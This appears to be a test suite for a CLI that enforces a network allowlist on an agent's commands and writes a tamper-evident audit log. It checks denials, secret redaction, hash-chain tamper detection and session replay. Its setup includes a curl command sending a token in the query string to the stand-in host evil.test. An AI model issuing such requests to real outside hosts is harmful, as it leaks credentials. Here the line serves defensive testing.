import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { CLI, errorCode, makeQuickstartHome, type TempHome } from "./helpers/cli.js";
import { startOrigin, type Origin } from "./helpers/origin.js";

let origin: Origin;
let t: TempHome;
let token: string;
let logPath: string;
let pristine: string;

const DECISION_FIELDS = [
  "ts",
  "seq",
  "session_id",
  "decision",
  "agent_id",
  "owner",
  "policy_id",
  "policy_version",
  "jti",
  "method",
  "scheme",
  "host",
  "port",
  "path",
  "status",
  "bytes_in",
  "bytes_out",
  "duration_ms",
  "prev_hash",
  "hash",
];

before(async () => {
  origin = await startOrigin(["allowed.test"]);
  const home = makeQuickstartHome(`allowed.test:${origin.httpPort}`);
  t = home;
  token = home.token;
  const url = (host: string) => `http://${host}:${origin.httpPort}/a?token=hunter2`;
  const status = await new Promise<number | null>((done) => {
    const child = spawn(
      process.execPath,
      [
        CLI,
        "run",
        "--resolve",
        `allowed.test:${origin.httpPort}:127.0.0.1`,
        "--",
        "sh",
        "-c",
        `curl -s ${url("allowed.test")} >/dev/null; curl -s ${url("evil.test")} >/dev/null`,
      ],
      { env: { ...t.env, VALLIGNUS_TOKEN: token }, stdio: "ignore" },
    );
    child.on("close", done);
  });
  assert.equal(status, 0);
  logPath = join(t.home, "audit", "audit.jsonl");
  pristine = readFileSync(logPath, "utf8");
});

after(async () => {
  await origin.close();
  t.cleanup();
});

test("every allow and deny carries the contract's fields, and no secret", () => {
  const records = pristine
    .trim()
    .split("\n")
    .map((l) => JSON.parse(l) as Record<string, unknown>);
  const allow = records.find((r) => r["decision"] === "allow");
  const deny = records.find((r) => r["decision"] === "deny");
  assert.ok(allow && deny);
  for (const field of DECISION_FIELDS) {
    assert.ok(field in allow, `allow lacks ${field}`);
    assert.ok(field in deny, `deny lacks ${field}`);
  }
  assert.equal(deny["deny_reason"], "domain_not_allowed");
  assert.equal(allow["path"], "/a?token=REDACTED");
  assert.deepEqual(
    records.filter((r) => "event" in r).map((r) => r["event"]),
    ["run_start", "run_end"],
  );
  assert.ok(!pristine.includes("hunter2"));
  assert.ok(!pristine.includes(token));
});

test("audit verify passes on the untouched log", () => {
  writeFileSync(logPath, pristine);
  assert.match(t.ok("audit", "verify"), /^ok: 4 records/);
});

const tamperings: [string, (lines: string[]) => string[], number][] = [
  [
    "an edited field",
    (l) => l.map((x, i) => (i === 1 ? x.replace('"status":200', '"status":201') : x)),
    2,
  ],
  ["a deleted line", (l) => l.filter((_, i) => i !== 2), 3],
  ["a truncated last line", (l) => [...l.slice(0, -1), (l.at(-1) ?? "").slice(0, 40)], 4],
];

for (const [name, tamper, line] of tamperings) {
  test(`audit verify fails on ${name}, naming line ${line}`, () => {
    const lines = pristine.trim().split("\n");
    const edited = tamper(lines);
    writeFileSync(logPath, `${edited.join("\n")}${name.includes("truncated") ? "" : "\n"}`);
    const r = t.run("audit", "verify");
    assert.equal(r.status, 1);
    assert.equal(errorCode(r.stderr), "ERR_AUDIT_CHAIN_BROKEN");
    assert.match(r.stderr, new RegExp(`line ${line}\\b`));
    writeFileSync(logPath, pristine);
  });
}

test("sessions list, show and replay describe the run", () => {
  const sessions = JSON.parse(t.ok("sessions", "list", "--json")) as {
    session_id: string;
    exit_status: number;
  }[];
  assert.equal(sessions.length, 1);
  const id = sessions[0]?.session_id ?? "";
  assert.equal(sessions[0]?.exit_status, 0);
  const record = JSON.parse(
    readFileSync(join(t.home, "sessions", id, "session.json"), "utf8"),
  ) as Record<string, unknown>;
  assert.equal(record["allowed"], 1);
  assert.equal(record["denied"], 1);
  assert.equal(record["end_reason"], "exited");
  assert.equal(
    t
      .ok("audit", "query", "--policy", "support", "--decision", "deny", "--json")
      .includes('"deny_reason": "domain_not_allowed"'),
    true,
  );
  assert.match(t.ok("sessions", "show", id), /support-bot/);
  const replay = t.ok("replay", id);
  assert.match(replay, /allow GET http:\/\/allowed\.test/);
  assert.match(replay, /deny +GET http:\/\/evil\.test.*domain_not_allowed/);
});
